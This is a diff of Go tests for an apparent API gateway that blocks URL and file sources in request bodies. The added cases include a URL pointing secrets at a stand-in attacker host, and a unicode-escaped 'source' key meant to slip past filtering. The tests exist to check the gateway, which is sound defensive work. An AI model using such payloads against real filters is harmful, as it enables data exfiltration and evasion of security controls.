@@ -187,6 +187,10 @@ var serverSide = []struct {
 	{name: "code_execution", body: `{"model":"m","max_tokens":10,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, allowTool: "code_execution"},
 	{name: "container", body: `{"model":"m","max_tokens":10,"messages":[],"container":"container_011CPR5CNjB747bTd36fQLFk"}`, allowTool: "container"},
 	{name: "unknown beta", body: `{"model":"m","max_tokens":10,"messages":[]}`, beta: "claude-code-20250219, mcp-client-2025-04-04", allowBeta: "mcp-client-2025-04-04"},
+	{name: "image by url", body: `{"model":"m","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?secret=1"}}]}]}`, allowTool: "url_sources"},
+	{name: "document by url in a tool result", body: `{"model":"m","max_tokens":10,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"url":"https://attacker.example/x.pdf","type":"url"}}]}]}]}`, allowTool: "url_sources"},
+	{name: "escaped source key", body: `{"model":"m","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","sour\u0063e":{"type":"\u0075rl","url":"https://attacker.example/"}}]}]}`, allowTool: "url_sources"},
+	{name: "file in system", body: `{"model":"m","max_tokens":10,"system":[{"type":"document","source":{"type":"file","file_id":"file_011"}}],"messages":[]}`, allowTool: "file_sources"},
 	{name: "mcp with its beta", body: `{"model":"m","max_tokens":10,"messages":[],"mcp_servers":[]}`, beta: "mcp-client-2025-04-04", allowTool: "mcp_servers", allowBeta: "mcp-client-2025-04-04"},
 }
 
@@ -248,13 +252,14 @@ func TestRequestsTheAgentsSendPass(t *testing.T) {
 		{`{"model":"m","max_tokens":10,"messages":[],"tools":[{"type":"custom","name":"bash","input_schema":{}}],"tool_choice":{"type":"auto"}}`,
 			"structured-outputs-2025-11-13,interleaved-thinking-2025-05-14,fine-grained-tool-streaming-2025-05-14"},
 		{`{"model":"m","max_tokens":10,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, ""},
+		{`{"model":"m","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBO"}},{"type":"text","text":"\u001b[31m \"source\""}]},{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"f","input":{"source":{"type":"url"}}}]}]}`, ""},
 	} {
 		resp, b := clientPost(t, gw, ph, c.body, map[string]string{"Anthropic-Beta": c.beta})
 		assert.Equal(t, resp.StatusCode, 200, "%s: %s", c.body, b)
 	}
 	resp, b := clientPost(t, gw, ph, `{"model":"m","max_tokens":10,"messages":[],"tools":[{"type":"web_search_tool_20250305","name":"x"}]}`, nil)
 	assert.Equal(t, resp.StatusCode, http.StatusForbidden, string(b))
-	assert.Equal(t, g.Usage().Requests, int64(4))
+	assert.Equal(t, g.Usage().Requests, int64(5))
 }
 
 // TestRefusesBodiesItCannotRead: what the gateway cannot read as one JSON
